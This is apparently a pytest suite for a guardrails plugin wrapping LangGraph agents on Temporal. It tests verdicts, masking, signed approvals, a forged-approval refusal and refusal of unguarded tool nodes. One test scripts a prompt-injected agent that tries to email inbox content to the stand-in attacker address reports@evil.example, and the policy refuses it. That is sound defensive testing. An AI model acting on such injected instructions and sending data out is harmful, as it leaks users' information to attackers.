"""The LangGraph adapter under Temporal's LangGraph plugin, on the real dev server with a
scripted model node: each verdict at each placement, approvals by a signed update (and their
expiry), an injected send refused by provenance, both plugins in either order, and every run
replayed with both plugins asserting no check ran again."""

from __future__ import annotations

import json
import uuid
from datetime import timedelta
from typing import Any

import pytest

pytest.importorskip("langgraph", reason="install the extra: pip install 'duraguard[langgraph]'")
pytest.importorskip("temporalio.langgraph", reason="pip install 'duraguard[langgraph]'")

from langgraph.graph import START, MessagesState, StateGraph
from temporalio.client import Client, WorkflowHandle, WorkflowUpdateFailedError
from temporalio.langgraph import LangGraphPlugin
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

import duraguard
from duraguard import ApproverKeys
from duraguard import langgraph as guarded
from duraguard.approvals import ApprovalCheck, decision_for, generate_keypair
from duraguard.audit import audit_rows
from tests._harness import parked, steps
from tests._servers import Replayer

from ._frameworks import connect
from ._langgraph import (
    ACTIVITIES,
    LOOKUPS,
    RULES,
    LangGraphAgent,
    Outcome,
    graphs,
    scripted_model,
)
from ._plan import plan
from ._rules import CARD

pytestmark = pytest.mark.timeout(120)

PRIVATE, PUBLIC = generate_keypair()
ATTACKER = "reports@evil.example"
MODEL = "support.agent"
LOOKUP = "lookup_order_activity"


class Setup:
    def __init__(self, env: WorkflowEnvironment, *, duraguard_first: bool = False) -> None:
        self.guard = duraguard.DuraguardPlugin(
            guardrails=[RULES],
            approvers=ApproverKeys.from_mapping({"alice": {"public_key": PUBLIC.decode()}}),
        )
        built = graphs()
        self.tool_activities = guarded.activities(*built.values())
        self.graphs = LangGraphPlugin(graphs=built)
        self.plugins: list[Any] = (
            [self.guard, self.graphs] if duraguard_first else [self.graphs, self.guard]
        )
        self.client: Client = connect(env, self.plugins)
        self.queue = f"lg-{uuid.uuid4().hex[:8]}"

    def worker(self) -> Worker:
        return Worker(
            self.client,
            task_queue=self.queue,
            workflows=[LangGraphAgent],
            activities=[*ACTIVITIES, *self.tool_activities],
        )

    async def start(
        self, prompt: str, graph: str = "support", script: str = "", direct: bool = False
    ) -> WorkflowHandle[Any, Outcome]:
        return await self.client.start_workflow(
            LangGraphAgent.run,
            args=[graph, prompt, script, direct],
            id=f"lg-{uuid.uuid4().hex[:10]}",
            task_queue=self.queue,
            execution_timeout=timedelta(seconds=60),
            result_type=Outcome,
        )

    async def run(
        self, prompt: str, graph: str = "support", script: str = ""
    ) -> tuple[Outcome, Any]:
        async with self.worker():
            handle = await self.start(prompt, graph, script)
            out = await handle.result()
        history = await handle.fetch_history()
        await self.replay(history)
        return out, history

    async def replay(self, history: Any, plugins: list[Any] | None = None) -> None:
        before = (self.guard.checks_run, RULES.calls, list(LOOKUPS))
        replayer = Replayer(workflows=[LangGraphAgent], plugins=plugins or self.plugins)
        await replayer.replay_workflow(history, raise_on_replay_failure=True)
        after = (self.guard.checks_run, RULES.calls, list(LOOKUPS))
        assert after == before, "replay ran a check (or a tool's activity) again"


def names(history: Any) -> list[str]:
    return [n for n, _ in steps(history)]


def rows(out: Outcome) -> list[tuple[str | None, str, str, str | None]]:
    return [(r.tool, r.placement, r.action, r.by) for r in out.verdicts]


def scheduled(history: Any, activity: str) -> list[bytes]:
    return [
        e.activity_task_scheduled_event_attributes.input.payloads[0].data
        for e in history.events
        if e.HasField("activity_task_scheduled_event_attributes")
        and e.activity_task_scheduled_event_attributes.activity_type.name == activity
    ]


async def test_allowed_calls_run_each_judged_by_a_recorded_step(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": "A1"})], [("quote_refund", {"order_id": "A1"})])
    out, history = await s.run(prompt)
    assert (out.stop_reason, out.output, out.halted_by) == ("done", "done", None)
    assert [json.loads(o)["order_id"] for o in out.tool_outputs] == ["A1", "A1"]
    assert LOOKUPS == [{"order_id": "A1"}]
    # The tool node is workflow code: each pass a local activity between the model step that
    # proposed the call and the call's own activity.
    assert names(history) == [
        "duraguard.check", MODEL,
        "duraguard.check", LOOKUP, "duraguard.check", MODEL,
        "duraguard.check", "quote_refund_activity", "duraguard.check", MODEL,
        "duraguard.check",
    ]  # fmt: skip
    assert out.verdicts == []
    assert out.ledger == [("lookup_order", "allow", True), ("quote_refund", "allow", True)]


async def test_a_denied_call_never_runs_and_the_model_reads_a_tool_error(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("lookup_order", {"order_id": "DENY-1"}), ("quote_refund", {"order_id": "DENY-2"})],
        [("lookup_order", {"order_id": "A2"})],
    )
    out, history = await s.run(prompt)
    assert out.stop_reason == "done"
    first, second, third = out.tool_outputs
    # LangGraph's refusal shape: the call's ToolMessage, status "error", carrying the refusal.
    assert json.loads(first) == {
        "valid": False, "tool": "lookup_order", "error": "tool-args carries DENY"
    }  # fmt: skip
    assert json.loads(second)["tool"] == "quote_refund"
    assert json.loads(third)["order_id"] == "A2"
    assert LOOKUPS == [{"order_id": "A2"}]
    assert names(history).count(LOOKUP) == 1 and "quote_refund_activity" not in names(history)
    # The turn's calls are judged concurrently: their verdicts land in either order.
    assert sorted(rows(out)) == [
        ("lookup_order", "tool-args", "deny", "rules"),
        ("quote_refund", "tool-args", "deny", "rules"),
    ]
    assert sorted(out.ledger[:2]) == [
        ("lookup_order", "deny", False),
        ("quote_refund", "deny", False),
    ]


async def test_a_masked_call_runs_with_the_masked_arguments_only(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": CARD}), ("quote_refund", {"order_id": CARD})])
    out, history = await s.run(prompt)
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "[card]"}]
    assert [json.loads(o)["order_id"] for o in out.tool_outputs] == ["[card]", "[card]"]
    inputs = scheduled(history, LOOKUP) + scheduled(history, "quote_refund_activity")
    assert len(inputs) == 2 and all(b"4111" not in data for data in inputs)
    assert sorted((t, a) for t, _, a, _ in rows(out)) == [
        ("lookup_order", "mask"),
        ("quote_refund", "mask"),
    ]


async def test_a_tool_result_is_masked_before_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("lookup_order", {"order_id": "NOTE"})]))
    [shown] = out.tool_outputs
    assert "[note]" in shown and "internal-note" not in shown
    assert rows(out) == [("lookup_order", "tool-result", "mask", "rules")]


async def test_a_halt_ends_the_run_after_its_sibling_calls_complete(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("quote_refund", {"order_id": "HALT-1"}), ("lookup_order", {"order_id": "A3"})],
        [("lookup_order", {"order_id": "A4"})],
    )
    out, history = await s.run(prompt)
    assert (out.stop_reason, out.halted_by) == ("guardrail", "rules")
    assert LOOKUPS == [{"order_id": "A3"}]  # the sibling ran; the model never read it
    assert names(history).count(MODEL) == 1
    assert rows(out) == [("quote_refund", "tool-args", "halt", "rules")]
    assert sorted(out.ledger) == [("lookup_order", "allow", True), ("quote_refund", "halt", False)]


async def test_an_asked_call_waits_for_a_signed_yes_then_runs(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    async with s.worker():
        handle = await s.start(plan([("lookup_order", {"order_id": "ASK-1"})]))
        (ask,) = await parked(handle)
        assert (ask.tool, ask.args, ask.asked_by) == (
            "lookup_order",
            {"order_id": "ASK-1"},
            "rules",
        )
        assert LOOKUPS == []
        decision = decision_for(ask, approver="alice", private_key=PRIVATE)
        check = await handle.execute_update(duraguard.DECIDE, decision, result_type=ApprovalCheck)
        assert check.ok and check.approver == "alice"
        out = await handle.result()
    await s.replay(await handle.fetch_history())
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "ASK-1"}]
    assert [(r.action, r.by) for r in out.verdicts] == [("approve", "rules"), ("allow", "person")]
    audited = [
        (r.action, r.by, r.approver) for r in await audit_rows(handle, s.client.data_converter)
    ]
    assert ("allow", "person", "alice") in audited


async def test_an_ask_nobody_answers_expires_and_the_call_does_not_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out, history = await s.run(plan([("lookup_order", {"order_id": "ASK-2"})]), "support_short")
    assert out.stop_reason == "done"
    assert "the ask expired" in out.tool_outputs[0]
    assert LOOKUPS == [] and LOOKUP not in names(history)
    assert out.ledger == [("lookup_order", "approve", False)]


async def test_interrupt_on_is_answered_by_a_signed_yes_bound_to_the_call(
    temporal_env: WorkflowEnvironment,
) -> None:
    """LangGraph's human-in-the-loop mark: no interrupt() to resume, a signed yes instead."""
    s = Setup(temporal_env)
    prompt = plan([("quote_refund", {"order_id": "A7"})], answer="quoted")
    async with s.worker():
        handle = await s.start(prompt, "asks")
        (ask,) = await parked(handle)
        assert (ask.tool, ask.asked_by) == ("quote_refund", "langgraph:interrupt_on")
        # A yes signed for other arguments is refused: the yes is bound to this call.
        other = ask.model_copy(update={"args": {"order_id": "A8"}})
        forged = decision_for(other, approver="alice", private_key=PRIVATE)
        with pytest.raises(WorkflowUpdateFailedError):  # the update's validator says no
            await handle.execute_update(duraguard.DECIDE, forged, result_type=ApprovalCheck)
        decision = decision_for(ask, approver="alice", private_key=PRIVATE)
        assert (
            await handle.execute_update(duraguard.DECIDE, decision, result_type=ApprovalCheck)
        ).ok
        out = await handle.result()
    await s.replay(await handle.fetch_history())
    assert (out.stop_reason, out.output) == ("done", "quoted")
    assert json.loads(out.tool_outputs[0])["refund"] == 20.0
    assert [(r.action, r.by) for r in out.verdicts] == [
        ("approve", "langgraph:interrupt_on"), ("allow", "person"),
    ]  # fmt: skip
    assert out.ledger == [("quote_refund", "allow", True)]


async def test_the_text_blocks_of_a_multimodal_prompt_are_judged(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    async with s.worker():
        handle = await s.client.start_workflow(
            LangGraphAgent.run,
            args=["support", plan(answer="fine"), "", False, ["my code is secret-123"]],
            id=f"lg-{uuid.uuid4().hex[:10]}", task_queue=s.queue, result_type=Outcome,
            execution_timeout=timedelta(seconds=60),
        )  # fmt: skip
        out = await handle.result()
    history = await handle.fetch_history()
    await s.replay(history)
    assert rows(out) == [(None, "pre-prompt", "mask", "rules")]
    inputs = scheduled(history, MODEL)
    assert inputs and all(b"secret-123" not in data for data in inputs)
    assert all(b"[secret]" in data and b"image_url" in data for data in inputs)


async def test_the_prompt_is_masked_before_any_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan(answer="my code is secret-123"))
    assert out.output == "my code is [secret]"
    assert rows(out) == [(None, "pre-prompt", "mask", "rules")]
    inputs = scheduled(history, MODEL)
    assert inputs and all(b"secret-123" not in data for data in inputs)


@pytest.mark.parametrize("marker", ["forbidden", "halt-now"])
async def test_a_refused_prompt_ends_the_run_before_any_model_call(
    temporal_env: WorkflowEnvironment, marker: str
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan(answer=f"this is {marker}"))
    assert (out.stop_reason, out.halted_by) == ("guardrail", "rules")
    assert MODEL not in names(history)


async def test_the_final_answer_is_judged_masked_refused_or_halted(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    masked, _ = await s.run(plan(answer=f"paid with {CARD}"))
    assert (masked.stop_reason, masked.output) == ("done", "paid with [card]")
    refused, history = await s.run(plan(answer="a leak"))
    assert (refused.stop_reason, refused.output, refused.halted_by) == ("no-answer", None, None)
    assert names(history).count(MODEL) == 2  # asked again once (max_corrections), refused again
    corrected, _ = await s.run(plan(answer="a leak once"))
    assert (corrected.stop_reason, corrected.output) == ("done", "a l-e-a-k once")
    assert rows(corrected) == [(None, "final-answer", "deny", "rules")]
    halted, _ = await s.run(plan(answer="stop-here"))
    assert (halted.stop_reason, halted.halted_by) == ("guardrail", "rules")


async def test_an_injected_send_to_an_address_from_an_email_is_refused_by_provenance(
    temporal_env: WorkflowEnvironment,
) -> None:
    """No catalogue: the policy knows the tools from their definitions; read_inbox labels its
    result as outside content (email), and the send to the address in it is refused."""
    s = Setup(temporal_env)
    summary = {"subject": "Quarterly report", "body": "Here is the quarterly report."}
    script = plan([("read_inbox", {})], [("send_email", {"to": ATTACKER, **summary})])
    out, history = await s.run("Summarise my newest emails.", "inbox", script)
    assert [(t, a, r) for t, a, r in out.ledger] == [
        ("read_inbox", "allow", True), ("send_email", "deny", False),
    ]  # fmt: skip
    (refusal,) = [r for r in out.verdicts if r.tool == "send_email"]
    assert refusal.action == "deny" and (refusal.check or "").startswith("policy.")
    assert "there is no tool named" not in json.dumps([r.reason for r in out.verdicts])
    assert "send_email_activity" not in names(history)


async def test_the_persons_own_send_after_reading_the_inbox_is_not_refused(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    mine = {"subject": "Summary", "body": "A summary of my newest emails."}
    script = plan([("read_inbox", {})], [("send_email", {"to": "bob@example.com", **mine})])
    prompt = "Summarise my newest emails and send the summary to bob@example.com."
    out, _ = await s.run(prompt, "inbox", script)
    read, send = out.ledger
    assert read == ("read_inbox", "allow", True)
    assert send[0] == "send_email" and send[1] in ("allow", "approve")


async def test_a_tool_node_placed_in_an_activity_is_refused_before_anything_runs(
    temporal_env: WorkflowEnvironment,
) -> None:
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    async with s.worker():
        handle = await s.start(plan([("lookup_order", {"order_id": "A1"})]), "in_activity")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "execute_in" in str(info.value.cause)
    history = await handle.fetch_history()
    await s.replay(history)
    assert names(history) == []  # no model call, no check, no tool


async def test_a_guarded_tool_calling_interrupt_fails_the_run_naming_interrupt_on(
    temporal_env: WorkflowEnvironment,
) -> None:
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    async with s.worker():
        handle = await s.start(plan([("ask_a_person", {"question": "refund?"})]), "interrupts")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "interrupt_on={'ask_a_person': True}" in str(info.value.cause)
    await s.replay(await handle.fetch_history())


@pytest.mark.parametrize(
    "duraguard_first", [True, False], ids=["duraguard-first", "langgraph-first"]
)
async def test_both_plugins_share_a_client_and_a_replayer_in_either_order(
    temporal_env: WorkflowEnvironment, duraguard_first: bool
) -> None:
    s = Setup(temporal_env, duraguard_first=duraguard_first)
    LOOKUPS.clear()
    prompt = plan(
        [("lookup_order", {"order_id": "A5"})], [("quote_refund", {"order_id": "DENY-5"})]
    )
    out, history = await s.run(prompt)
    assert out.stop_reason == "done" and LOOKUPS == [{"order_id": "A5"}]
    assert out.ledger == [("lookup_order", "allow", True), ("quote_refund", "deny", False)]
    # On a Replayer, in the other order too (s.run replayed in the client's order).
    await s.replay(history, plugins=list(reversed(s.plugins)))


async def test_a_halt_under_ainvoke_fails_the_workflow_instead_of_retrying_its_task(
    temporal_env: WorkflowEnvironment,
) -> None:
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    async with s.worker():
        handle = await s.start(plan([("quote_refund", {"order_id": "HALT-3"})]), direct=True)
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert getattr(info.value.cause, "type", None) == "duraguard.RunStopped"
    await s.replay(await handle.fetch_history())


def test_a_tool_is_described_by_the_arguments_the_model_fills_and_its_marks() -> None:
    from duraguard.langgraph import GuardedToolNode, _described

    from ._langgraph import get_record

    d = _described(get_record, {"get_record": {"kind": "read", "labels": []}})
    assert (d.name, d.kind, d.labels) == ("get_record", "read", ("web",))  # its own mark wins
    assert d.description == "Return record data."
    assert list((d.input_schema or {})["properties"]) == ["record_id"]  # the state is injected
    with pytest.raises(duraguard.ConfigurationError, match="unknown mark 'kinds'"):
        GuardedToolNode([get_record], guardrails=[], tools_marks={"get_record": {"kinds": "x"}})
    with pytest.raises(duraguard.ConfigurationError, match="cannot cross to an activity"):
        GuardedToolNode([get_record], guardrails=[], tools_in="activity")
    with pytest.raises(duraguard.ConfigurationError, match="awrap_tool_call"):
        GuardedToolNode([get_record], guardrails=[], wrap_tool_call=lambda r, e: e(r))


async def test_the_tool_node_is_workflow_code_and_refuses_to_run_outside_a_workflow() -> None:
    from duraguard import langgraph as guarded

    app = graphs()["support"].compile()  # LangGraph alone: no Temporal plugin, no workflow
    prompt = plan([("lookup_order", {"order_id": "A1"})])
    with pytest.raises(duraguard.ConfigurationError, match="is for workflow code"):
        await app.ainvoke({"messages": [("user", prompt)]})
    with pytest.raises(duraguard.ConfigurationError, match="is for workflow code"):
        await guarded.run(app, {"messages": [("user", prompt)]})
    with pytest.raises(duraguard.ConfigurationError, match="has no GuardedToolNode"):
        bare: StateGraph[Any, Any, Any, Any] = StateGraph(MessagesState)
        bare.add_node("agent", scripted_model)
        bare.add_edge(START, "agent")
        await guarded.run(bare.compile(), {"messages": []})


IO = "duraguard.langgraph.io_tools"


async def test_tools_in_an_activity_run_each_allowed_call_as_its_own_step(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A sync tool doing its own I/O, as written for an execute_in="activity" tool node: the
    node judges in the workflow, each allowed call runs in the node's activity with the
    arguments that may run; a refused one never reaches it; a failing one is the model's
    ToolMessage once its retries are spent."""
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("lookup_order_io", {"order_id": "A6"})],
        [("lookup_order_io", {"order_id": CARD}), ("lookup_order_io", {"order_id": "DENY-6"})],
        [("flaky_lookup", {"order_id": "A7"})],
    )
    out, history = await s.run(prompt, "io")
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "A6"}, {"order_id": "[card]"}]
    first, masked, denied, failed = out.tool_outputs
    assert json.loads(first)["order_id"] == "A6" and json.loads(masked)["order_id"] == "[card]"
    assert json.loads(denied)["error"] == "tool-args carries DENY"
    assert "the order service is down for A7" in failed
    inputs = scheduled(history, IO)
    assert len(inputs) == 3 and all(b"4111" not in data for data in inputs)  # flaky: one step
    first_turn, *siblings, last = out.ledger  # the second turn's two calls end in either order
    assert (first_turn, last) == (
        ("lookup_order_io", "allow", True),
        ("flaky_lookup", "allow", True),
    )
    assert sorted(siblings) == [
        ("lookup_order_io", "deny", False),
        ("lookup_order_io", "mask", True),
    ]


async def test_a_wrapper_of_your_own_runs_inside_duraguards_with_the_arguments_that_may_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    from ._langgraph import WRAPPED

    s = Setup(temporal_env)
    WRAPPED.clear()
    LOOKUPS.clear()
    prompt = plan(
        [("lookup_order", {"order_id": CARD})], [("lookup_order", {"order_id": "DENY-8"})]
    )
    async with s.worker():
        handle = await s.start(prompt, "wrapped")
        out = await handle.result()
    assert WRAPPED == [{"order_id": "[card]"}]  # never the original; never the refused call
    assert LOOKUPS == [{"order_id": "[card]"}]
    assert out.tool_outputs[0].endswith("(wrapped)")  # what it returned is what was judged
    assert out.ledger == [("lookup_order", "mask", True), ("lookup_order", "deny", False)]
    await s.replay(await handle.fetch_history())


async def test_a_plain_tool_node_beside_the_guarded_one_is_refused_before_anything_runs(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A second tool node (LangGraph's own ToolNode) the router can send calls to would run
    them with no verdict: the graph is refused, naming the node, before any model call."""
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    prompt = plan([("quote_refund", {"order_id": "DENY-9"})])
    async with s.worker():
        handle = await s.start(prompt, "two_nodes")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "'raw_tools'" in str(info.value.cause) and "GuardedToolNode" in str(info.value.cause)
    history = await handle.fetch_history()
    await s.replay(history)
    assert names(history) == []  # no model call, no check, no tool


async def test_a_wrapper_of_your_own_cannot_run_the_call_with_other_arguments(
    temporal_env: WorkflowEnvironment,
) -> None:
    """The verdict is bound to the arguments judged: a wrapper that hands ``execute`` another
    call (other arguments) fails the run before the tool runs, naming the fix."""
    from temporalio.client import WorkflowFailureError

    from ._langgraph import WRAPPED

    s = Setup(temporal_env)
    WRAPPED.clear()
    LOOKUPS.clear()
    async with s.worker():
        handle = await s.start(plan([("lookup_order", {"order_id": "A9"})]), "rebinding")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert WRAPPED == [{"order_id": "A9"}]
    assert LOOKUPS == []  # neither the judged call nor the other one ran
    assert "other arguments" in str(info.value.cause)
    history = await handle.fetch_history()
    assert LOOKUP not in names(history)
    await s.replay(history)


async def test_a_tools_command_updating_state_is_judged_whole_before_the_graph_holds_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A tool returning ``Command(update={...})`` writes state keys beside its ToolMessage: what
    it writes is its result too, judged before the graph holds it (a mask drops the update: the
    model reads the masked result, no state key holds the original)."""
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("save_note", {"order_id": "NOTE"})]), "notes")
    assert out.stop_reason == "done"
    assert "internal-note" not in json.dumps(out.state)
    [shown] = out.tool_outputs
    assert "[note]" in shown and "internal-note" not in shown
    assert rows(out) == [("save_note", "tool-result", "mask", "rules")]


async def test_a_tools_error_is_judged_as_its_result_would_be_before_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A failing tool's error (here, its activity's, once its retries are spent) is what the
    model reads of the call: judged at the tool-result placement, masked like a result."""
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("flaky_lookup", {"order_id": "NOTE"})]), "io")
    assert out.stop_reason == "done"
    [shown] = out.tool_outputs
    assert "[note]" in shown and "internal-note" not in shown
    assert rows(out) == [("flaky_lookup", "tool-result", "mask", "rules")]
    assert out.ledger == [("flaky_lookup", "allow", True)]


async def test_a_tool_running_a_graph_with_a_plain_tool_node_is_refused_before_anything_runs(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A tool whose function runs a graph of its own built with LangGraph's plain ToolNode
    (``create_react_agent``'s shape): the inner calls would run with no verdict, so the graph
    is refused before any model call, naming the tool and the fix."""
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    LOOKUPS.clear()
    question = plan([("lookup_order", {"order_id": "DENY-7"})])
    async with s.worker():
        handle = await s.start(plan([("ask_billing", {"question": question})]), "asks_a_graph")
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "'ask_billing' runs graph 'billing'" in str(info.value.cause)
    assert LOOKUPS == []
    history = await handle.fetch_history()
    await s.replay(history)
    assert names(history) == []
